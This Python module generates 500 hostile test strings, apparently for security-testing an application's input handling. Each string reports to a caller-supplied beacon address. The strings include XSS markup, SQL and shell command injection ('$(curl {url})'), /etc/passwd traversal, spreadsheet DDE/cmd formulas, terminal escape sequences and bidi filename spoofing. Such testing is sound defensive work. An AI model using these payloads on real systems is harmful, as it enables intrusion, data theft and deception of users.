"""500 hostile strings: markup, script, formulas, terminal sequences, directions, length. Each that could act tells so.

A script that runs calls `hit`; what is fetched comes to the beacon. `{n}` is the string's number.
"""

from collections.abc import Iterator
from itertools import product, zip_longest

COUNT = 500

_SCRIPTS = ("hit({n})", "parent.hit({n})", "fetch('{url}')", "window['hi'+'t']({n})")

_MARKUP = (
    *("<script>{js}</script>", "<SCRIPT SRC='{url}.js'></SCRIPT>", '<img src=x onerror="{js}">', "<svg onload={js}>"),
    *(
        "<iframe srcdoc='<script>{js}</script>'></iframe>",
        "<iframe src='javascript:{js}'></iframe>",
        "<base href='{url}'>",
    ),
    *(
        "<a href='javascript:{js}'>x</a>",
        "<a href='{url}' target=_blank>x</a>",
        "<body onload={js}>",
        "<img src='{url}'>",
    ),
    *("<object data='{url}'></object>", "<embed src='{url}'>", "<link rel=stylesheet href='{url}.css'>"),
    *(
        "<meta http-equiv=refresh content='0;url={url}'>",
        "<style>@import '{url}.css';</style>",
        "<math><mi xlink:href='{url}'>",
    ),
    *(
        "<style>*{{background:url({url})}}</style>",
        "<form action='{url}'><button autofocus>",
        "<input autofocus onfocus={js}>",
    ),
    *("<details open ontoggle={js}>", "<video src=x onerror={js}>", "<template><script>{js}</script></template>"),
    *(
        '<noscript><p title="</noscript><img src=x onerror={js}>">',
        "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    ),
    *(
        "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
        "<svg><use href='{url}#x'></svg>",
        "<plaintext>",
    ),
    *(
        "<select autofocus onfocus={js}>",
        "<marquee onstart={js}>",
        "<div style='animation-name:x' onanimationstart={js}>",
    ),
    *(
        "</title><script>{js}</script>",
        "</textarea><script>{js}</script>",
        "--><script>{js}</script>",
        "]]><script>{js}</script>",
    ),
    *(
        '</pre><pre id="handrail-journal" hidden>',
        "</script><script>{js}</script>",
        "<!--<script>{js}//-->",
        "<?xml version='1.0'?>",
    ),
    *(
        "&lt;script&gt;{js}&lt;/script&gt;",
        "&#60;img src=x onerror={js}&#62;",
        "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    ),
    *(
        "%3Cscript%3E{js}%3C/script%3E",
        "<scr\x00ipt>{js}</script>",
        "<img/src=x\tonerror={js}>",
        "<\uff53cript>{js}</\uff53cript>",
    ),
)
_AROUND = ("{}", "\"'>{}", "Facture {} 2026", "\u202e{}\u202c")

_CODE = (
    *(
        "javascript:{js}",
        "data:text/html,<script>{js}</script>",
        "{{{{constructor.constructor('{js}')()}}}}",
        "${{{js}}}",
    ),
    *(
        "'-{js}-'",
        '";{js};//',
        "\u2028{js}\u2028",
        "__proto__",
        "constructor",
        "toString",
        '{{"type":"session/state"}}',
    ),
    *(
        "'; DROP TABLE technicians; --",
        "' OR '1'='1",
        "%s%n%x%p",
        "{{0.__class__}}",
        "{{who}}",
        "**{js}**",
        "$(curl {url})",
        "`curl {url}`",
    ),
    *(
        "; curl {url}",
        "| curl {url}",
        "../../../../etc/passwd",
        "\\\\evil\\share",
        "CON",
        "file:///etc/passwd",
        "{url}",
        "NaN",
        "null",
        "\x00",
    ),
    *(
        "\r\n2026-11-23 03:00:00 INFO agent: session.ended",
        "a\r\nSet-Cookie: x=1",
        "\ufeff{js}",
        "\udce9\udcff".encode("utf-8", "replace").decode(),
    ),
)
_FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", '=HYPERLINK("{url}","x")', '=WEBSERVICE("{url}")'),
    *(
        '=IMPORTXML("{url}","//a")',
        '=DDE("cmd";"/C calc";"x")',
        "+cmd|' /C calc'!A0",
        '=1+1",=2+2',
        '"=1+1"',
        '=IMAGE("{url}")',
    ),
)
_BEFORE_FORMULAS = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "'\n",
    ",",
    ";",
    "\x00",
    "\uff1d",
    "\uff0b",
    "\uff20",
)

_TERMINAL = (
    *(
        "{e}[2J{e}[H",
        "{e}[31m",
        "{e}]0;titre\x07",
        "{e}]52;c;cm0gLXJm\x07",
        "{e}]8;;{url}{e}\\lien{e}]8;;{e}\\",
        "{e}[6n",
        "{e}c",
        "{e}[?1049h",
    ),
    *(
        '{e}P$q"p{e}\\',
        "{e}[8m",
        "{e}[1;1r",
        "{e}[?25l",
        "{e}#8",
        "{e}[3;3H{e}[K",
        "{e}(0lqqk",
        "\b\b\b\b",
        "\x07",
        "\r",
        "{e}[5i",
        "{e}[200~rm{e}[201~",
    ),
)
_ESCAPES = ("\x1b", "\u009b", "texte \x1b")

_DIRECTIONS = (
    *(
        "\u202e",
        "\u202d",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u202a",
        "\u202b",
        "\u200f",
        "\u061c",
        "\u200e",
        "\u2069\u2069",
        "\u202c\u202c",
    ),
    *("\u200b", "\u200d", "\u2060", "\u00ad", "\ufeff", "\U000e0041", "\ufe0f", "\u0301" * 60),
)
_WITH_DIRECTION = ("facture{}gpj.exe", "{}שלום", "Camille {} autorise", "{}")

_LONG = (
    *(
        "A" * 300,
        "A" * 5000,
        "A" * 60_000,
        "é" * 30_000,
        "\U0001f600" * 15_000,
        "mot " * 10_000,
        "\n" * 2000,
        "\t" * 2000,
        " " * 5000,
    ),
    *("<b>" * 9000, "\u0301" * 5000, "\u202e" * 3000, "a\u0301\u0302\u0303" * 2000, "&" * 9000, "\u2066" * 5000 + "x"),
)


def hostile(beacon: str, count: int = COUNT) -> list[str]:
    """Return `count` different strings, of every kind, that tell `beacon` (an address) if they can."""
    made: dict[str, None] = {}
    for at_once in zip_longest(*_kinds()):
        for text in filter(None, at_once):
            number = len(made)
            made.setdefault(text.replace("{n}", str(number)).replace("{url}", f"{beacon}/{number}"))
            if len(made) == count:
                return list(made)
    raise ValueError(f"there are only {len(made)} of them")


def _kinds() -> list[Iterator[str]]:
    """Return the kinds, which take turns."""
    return [
        (around.replace("{}", _act(markup, js)) for around, markup, js in product(_AROUND, _MARKUP, _SCRIPTS)),
        (_act(code, js) for js, code in product(_SCRIPTS, _CODE)),
        (before + formula for formula, before in product(_FORMULAS, _BEFORE_FORMULAS)),
        (sequence.replace("{e}", escape) for escape, sequence in product(_ESCAPES, _TERMINAL)),
        (around.replace("{}", mark) for around, mark in product(_WITH_DIRECTION, _DIRECTIONS)),
        iter(_LONG),
    ]


def _act(template: str, js: str) -> str:
    return template.replace("{js}", js).replace("{{", "{").replace("}}", "}")
